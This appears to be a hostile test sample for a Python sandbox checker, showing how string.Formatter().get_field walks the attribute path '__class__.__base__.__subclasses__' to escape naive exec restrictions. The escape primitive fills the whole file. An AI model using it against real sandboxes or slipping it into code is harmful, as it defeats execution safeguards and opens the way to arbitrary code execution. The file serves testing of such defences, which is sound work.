# ruff: noqa - a hostile script, kept as written
# threat: 4 evaluate code or attribute paths outside the checks
# technique: string.Formatter().get_field('0.__class__.__base__', ...)
# naive exec: escapes: Formatter.get_field resolves any attribute path
import string
obj, _ = string.Formatter().get_field("0.__class__.__base__.__subclasses__", [()], {})
result = "ESCAPED " + str(len(obj()))
